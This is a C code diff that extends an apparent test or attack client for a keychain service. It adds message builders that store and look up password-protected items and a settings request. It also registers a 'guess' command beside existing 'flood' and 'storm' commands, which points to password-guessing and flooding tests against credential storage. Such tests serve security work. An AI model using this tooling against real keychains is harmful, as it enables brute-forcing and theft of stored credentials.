@@ -100,6 +100,10 @@ enum Stranger {
             for (int i = 0; i < 16; i++) u8(*id);
             u8(0); un(0, 8); u8(0); u8(0); u8(0); u8(0);
         }
+        static void password(const char *typed) {
+            for (int i = 0; i < 16; i++) u8('p');
+            u8(0); un(0, 8); u8(0); u8(0); u8(1); text(typed); u8(0);
+        }
         static void entry(const char *group, const char *service) {
             word("acct", "ada"); word("agrp", group); word("class", "genp"); word("svce", service);
         }
@@ -121,6 +125,23 @@ enum Stranger {
             word("svce", service);
             if (id) { text("u_AuthCtx"); u8(10); context(id); }
             end_of_dictionary();
+        }
+        static void add_with(const char *group, const char *service, const char *value,
+                             const char *typed) {
+            begin(2); u8(1); u8(1); un(7, 4);
+            text("accc"); u8(8); u8(6); un(1u << 31, 8);
+            entry(group, service); text("u_AuthCtx"); u8(10); password(typed);
+            text("v_Data"); u8(7); text(value);
+            end_of_dictionary();
+        }
+        static void find_with(const char *group, const char *service, const char *typed) {
+            begin(2); u8(1); u8(2); un(6, 4);
+            word("acct", "ada"); word("agrp", group); word("class", "genp"); yes("r_Data");
+            word("svce", service); text("u_AuthCtx"); u8(10); password(typed);
+            end_of_dictionary();
+        }
+        static void settings(int idle) {
+            begin(2); u8(4); u8(6); un(idle, 4); un(0xffff, 2); u8(0); u8(0);
         }
         static void find_reference(const char *reference) {
             begin(2); u8(1); u8(2); un(3, 4);
@@ -243,6 +264,11 @@ enum Stranger {
             else if (!strcmp(s, "find")) { x = NEXT; find(x, NEXT, "r_Data", 0); }
             else if (!strcmp(s, "refer")) { x = NEXT; find(x, NEXT, "r_PersistentRef", 0); }
             else if (!strcmp(s, "findwith")) { y = NEXT; x = NEXT; find(x, NEXT, "r_Data", y); }
+            else if (!strcmp(s, "addpass")) {
+                const char *group = NEXT; x = NEXT; y = NEXT; add_with(group, x, y, NEXT);
+            }
+            else if (!strcmp(s, "findpass")) { x = NEXT; y = NEXT; find_with(x, y, NEXT); }
+            else if (!strcmp(s, "settings")) settings(atoi(NEXT));
             else if (!strcmp(s, "findby")) find_reference(NEXT);
             else if (!strcmp(s, "delete")) { x = NEXT; delete(x, NEXT); }
             else if (!strcmp(s, "make")) make(NEXT);
@@ -285,6 +311,8 @@ enum Stranger {
                 else if (!strcmp(s, "flood")) { char *p = a[++i]; flood(p, atoi(a[++i])); }
                 else if (!strcmp(s, "storm")) {
                     storm(a[i + 1], atoi(a[i + 2]), atoi(a[i + 3]), a[i + 4], a[i + 5]); i += 5;
+                } else if (!strcmp(s, "guess")) {
+                    guess(a[i + 1], atoi(a[i + 2]), a[i + 3], a[i + 4]); i += 4;
                 } else if (!strcmp(s, "convert"))
                     printf("%d\n", iconv_open("UTF-8", "KEYCHAIN-ATTACK") != (iconv_t)-1);
                 else if (!strcmp(s, "watch")) watch();
